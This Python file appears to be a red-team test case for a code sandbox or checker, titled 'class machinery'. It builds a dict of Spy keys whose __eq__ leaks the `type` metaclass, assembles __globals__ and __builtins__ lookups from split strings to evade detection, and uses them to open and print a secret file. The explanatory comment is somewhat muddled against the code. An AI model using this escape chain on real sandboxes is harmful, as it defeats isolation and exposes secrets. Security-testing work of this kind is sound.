# family: class machinery (red-team round 14: type(x) reaching the tool's code)
# Chain: `seen = {}` is bound as an empty display, which peers._lookup_peer takes for a plain dict, so
# `seen.get(type(c))` is allowed -- but the tool first stores its own Spy objects in it as keys.  On a
# hash match the dict calls Spy.__eq__(type(c)); with c = int that hands out `type`.  type() of a
# bound method is MethodType... here: type(attrgetter) builds getters from run-time names ->
# function.__globals__ -> builtins.open -> secret file.
import operator


class Spy:
    def __init__(self, h, box):
        self.h = h
        self.box = box

    def __hash__(self):
        return self.h

    def __eq__(self, other):
        self.box.append(other)
        return False


def first_class_of(c):
    box = []
    seen = {}
    base = hash(int)
    for k in range(-70000, 70000):
        seen[Spy(base + k, box)] = 1
    seen.get(type(c))
    return box[0]


def entry():
    meta = first_class_of(str)
    make = meta(operator.attrgetter("real"))
    u = "_"
    g = make(u + u + "globals" + u + u)(entry)
    b = g[u + u + "builtins" + u + u]
    opener = b["open"] if isinstance(b, dict) else make("open")(b)
    print("meta:", meta)
    print("secret:", opener("/tmp/r14/work/secret.txt").read())


entry()
